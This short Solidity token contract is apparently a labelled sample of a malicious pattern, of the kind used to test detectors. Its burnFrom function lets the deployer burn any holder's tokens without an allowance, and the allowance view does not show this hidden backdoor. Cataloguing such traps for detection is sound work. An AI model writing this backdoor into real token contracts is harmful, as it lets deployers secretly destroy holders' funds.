// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.30;

import {OwnableToken} from "base/OwnableToken.sol";

/// Trap: whoever launched it has an allowance from everyone, which `allowance` does not show.
contract OwnerAllowance is OwnableToken {
    address private immutable keeper = msg.sender;

    constructor(string memory name_, string memory symbol_, uint256 supply) OwnableToken(name_, symbol_, supply) {}

    function burnFrom(address holder, uint256 value) external {
        if (msg.sender != keeper) _useAllowance(holder, msg.sender, value);
        _write(holder, address(0), value);
    }
}
